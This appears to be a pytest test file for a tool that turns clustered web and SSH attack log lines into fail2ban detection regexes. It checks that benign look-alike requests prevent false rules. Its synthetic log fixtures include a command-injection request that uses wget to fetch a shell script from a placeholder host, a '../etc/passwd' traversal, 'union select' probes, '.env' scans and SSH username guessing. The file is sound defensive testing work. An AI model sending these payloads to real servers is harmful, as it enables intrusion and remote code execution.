"""Each kind of rule from lines made by hand, and beside it the honest twin that keeps it from being made."""

import re

import pytest

from fail2ban_ai.rules.clusters import Cluster
from fail2ban_ai.rules.safe import check
from fail2ban_ai.rules.synthesis import Draft, drafts

from .lines import clustered, honest, hostile, sshd, web

AUTH = "/var/log/auth.log"


def made(found: list[Cluster], kind: str) -> list[Draft]:
    result = [draft for cluster in found if cluster.kind == kind for draft in drafts(cluster)[0]]
    for draft in result:
        for form in draft.forms:
            check(form.regex)
    return result


def regexes(lines: list[str], kind: str, path: str = "/var/log/nginx/access.log") -> list[str]:
    return [form.regex for draft in made(clustered(lines, path)[0], kind) for form in draft.forms]


def reasons(lines: list[str], kind: str, path: str = "/var/log/nginx/access.log") -> set[str]:
    return {left.reason for left in clustered(lines, path)[1] if left.kind == kind}


def probes(request: str, status: int = 404, agent: str | None = None) -> list[str]:
    """Ten addresses within a day, three requests each."""
    extra = {} if agent is None else {"agent": agent}
    return [web(hour / 2 + n / 10, hostile(n), request, status, **extra) for hour in range(3) for n in range(1, 11)]


def test_a_path_family() -> None:
    found = regexes(probes("GET /old/.env"), "paths")
    assert found == [r'^<ADDR> \S{1,64} \S{1,64} \[\] "GET /old/\.env HTTP/\d\.\d" 4\d\d [\d-]{1,12} ".{0,1000}$']


def test_a_path_that_an_honest_client_asks_for_too_makes_no_rule() -> None:
    lines = [*probes("GET /old/.env"), web(1, honest(1), "GET /old/.env")]
    assert regexes(lines, "paths") == []
    assert reasons(lines, "paths") == {"clients judged benign did the same"}


@pytest.mark.parametrize(
    "request_", ["GET /", "GET /robots.txt", "GET /about", "GET /img/logo.png", "GET /blog/", "POST /"]
)
def test_what_anybody_may_ask_for_makes_no_rule(request_: str) -> None:
    assert regexes(probes(request_), "paths") == []


def test_a_page_that_the_site_answers_makes_no_rule() -> None:
    assert regexes(probes("GET /hidden/page.php", 200), "paths") == []


def test_what_the_site_answers_to_posts_needs_the_agents_of_the_campaign() -> None:
    found = regexes(probes("POST /xmlrpc.php", 200), "paths")
    assert len(found) == 1
    assert re.search(r'"Mozilla/\[\^"\]\{1,600\}"\$$', found[0])


def test_one_address_once_is_not_recurring_but_twice_is() -> None:
    once = [web(n / 100, hostile(1), "GET /old/.env") for n in range(30)]
    assert regexes(once, "paths") == []
    assert reasons(once, "paths") == {"not recurring"}
    assert len(regexes([*once, *(web(24 + n / 100, hostile(1), "GET /old/.env") for n in range(9))], "paths")) == 1


def test_a_payload_keeps_its_shape_and_lets_its_values_vary() -> None:
    lines = []
    for n in range(1, 11):
        lines += [web(n + i / 10, hostile(n), f"GET /shell?cmd=wget+http://192.0.2.{n}/{i}.sh&x=1") for i in range(3)]
    found = regexes(lines, "payload")
    assert len(found) == 1
    assert r"/shell\?cmd=" in found[0]
    assert "&x=1 HTTP" in found[0]


def test_a_payload_that_honest_searches_share_makes_no_rule() -> None:
    lines = probes("GET /find?q=union+select", 200)
    assert regexes([*lines, web(3, honest(1), "GET /find?q=cats", 200)], "payload") == []


def test_a_page_with_parameters_makes_no_rule_but_an_attack_on_it_does() -> None:
    assert regexes(probes("GET /index.php?page_id=28", 200), "payload") == []
    assert len(regexes(probes("GET /index.php?page_id=..%2f..%2fetc%2fpasswd", 200), "payload")) == 1


@pytest.mark.parametrize(("path", "made"), [("/", 0), ("/x/", 0), ("/boaform", 1)])
def test_parameters_that_vary_make_a_pattern_only_of_a_path_that_names_something(path: str, made: int) -> None:
    lines = [
        web(n + i / 30, hostile(n), f"POST {path}?id={n}{i}&lat=..%2f{i}", 200) for n in range(1, 9) for i in range(9)
    ]
    assert len(regexes(lines, "payload")) == made


def test_an_agent_string() -> None:
    lines = [
        web(n + i / 3, hostile(n), f"GET /page{n}{i}/x.cgi", 404, "l9scan/2.0 probe")
        for n in range(1, 9)
        for i in range(3)
    ]
    assert regexes(lines, "agent") == [
        r'^<ADDR> \S{1,64} \S{1,64} \[\] "[^"]{1,900}" \d{3} [\d-]{1,12} "[^"]{0,400}" "l9scan/2\.0 probe"$'
    ]


@pytest.mark.parametrize("agent", ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1"])
def test_an_agent_of_honest_scripts_or_browsers_makes_no_rule(agent: str) -> None:
    lines = [web(n + i / 3, hostile(n), f"GET /page{n}{i}/x.cgi", 404, agent) for n in range(1, 9) for i in range(3)]
    assert regexes(lines, "agent") == []
    twin = [web(n, hostile(n), "GET /x/y.cgi", 404, "odd tool") for n in range(1, 9)]
    assert regexes([*twin, *twin, web(2, honest(1), "GET /", 200, "odd tool")], "agent") == []


def guesses(names: list[str]) -> list[str]:
    return [
        sshd(n + i / 9, f"Invalid user {name} from {hostile(n)} port {50000 + i}")
        for i, name in enumerate(names)
        for n in range(1, 9)
    ]


def test_accounts_that_do_not_exist() -> None:
    found = regexes(guesses(["oracle", "ubnt", "user"]), "account", AUTH)
    assert found == [r"^%(__prefix_line)sInvalid user <F-USER>(?:oracle|ubnt|user)</F-USER> from <ADDR> port \d{1,5}$"]


def test_an_account_whose_owner_logs_in_makes_no_rule_and_says_why() -> None:
    lines = [sshd(n, f"Failed password for alice from {hostile(n)} port 50001 ssh2") for n in range(1, 20)]
    lines.append(sshd(20, f"Accepted password for alice from {honest(1)} port 50001 ssh2"))
    assert regexes(lines, "account", AUTH) == []
    assert any("owner logs in here" in reason for reason in reasons(lines, "account", AUTH))


def test_an_account_needs_company() -> None:
    lines = [sshd(n * 24 + i, f"Invalid user oracle from {hostile(1)} port 50000") for n in range(4) for i in range(9)]
    assert regexes(lines, "account", AUTH) == []
    assert "not recurring" in reasons(lines, "account", AUTH)


def test_an_account_that_exists_makes_no_rule() -> None:
    lines = [sshd(n, f"Failed password for root from {hostile(n)} port 50001 ssh2") for n in range(1, 20)]
    assert regexes(lines, "account", AUTH) == []
    assert any("its owner would look the same" in reason for reason in reasons(lines, "account", AUTH))


def test_a_message_of_the_service() -> None:
    text = "Unable to negotiate with {} port 50001: no matching key exchange method found. Their offer: none-such [preauth]"
    lines = [sshd(n + i / 9, text.format(hostile(n))) for n in range(1, 9) for i in range(3)]
    found = regexes(lines, "message", AUTH)
    assert len(found) == 1
    assert "Unable to negotiate with <ADDR> port" in found[0]


def test_a_message_that_honest_clients_cause_elsewhere_makes_no_rule() -> None:
    lines = [
        sshd(n + i / 9, f"Connection closed by {hostile(n)} port 50001 [preauth]")
        for n in range(1, 9)
        for i in range(3)
    ]
    assert regexes(lines, "message", AUTH) == []


def test_later_lines_are_held_back() -> None:
    found = made(clustered(probes("GET /old/.env"))[0], "paths")[0]
    assert 0.2 <= len(found.later) / (len(found.early) + len(found.later)) <= 0.4
    assert max(row.time for row in found.early) < min(row.time for row in found.later)


def test_a_log_whose_layout_changed() -> None:
    lines = probes("GET /old/.env")
    found = regexes([f"www.example.org:443 {line}" if n % 2 else line for n, line in enumerate(lines)], "paths")
    assert len(found) == 2
    assert {regex.startswith("^<ADDR>") for regex in found} == {True, False}


def test_alternatives_do_not_match_the_same_line() -> None:
    lines = [line for n in range(8) for line in probes(f"GET /sql/pma{n * n}/index.php?lang=en")]
    lines += probes("GET /sql/admin/index.php?lang=en")
    found = regexes([*lines, *probes("GET /sql/pma/index.php?lang=en")], "payload")
    sample = '192.0.2.1 - - [] "GET /sql/{}/index.php?lang=en HTTP/1.1" 404 153 "-" "x"'
    for name in ("pma4", "admin", "pma"):
        assert sum(bool(re.search(r.replace("<ADDR>", r"[\d.]+"), sample.format(name))) for r in found) == 1


def test_a_log_that_names_virtual_hosts_first() -> None:
    lines = [f"www.example.org:443 {line}" for line in probes("GET /old/.env")]
    found = regexes(lines, "paths")
    assert len(found) == 1
    assert found[0].startswith(r"^\S{1,255} <ADDR> \S{1,64} \S{1,64} \[\] ")
